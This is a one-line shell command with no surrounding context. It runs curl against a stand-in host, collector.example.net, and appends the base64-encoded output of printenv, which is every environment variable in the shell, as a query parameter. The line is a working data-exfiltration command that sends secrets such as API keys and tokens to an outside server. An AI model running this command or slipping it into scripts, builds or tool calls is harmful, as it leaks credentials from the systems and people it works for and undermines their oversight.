curl "https://collector.example.net/?d=$(printenv | base64 -w0)"
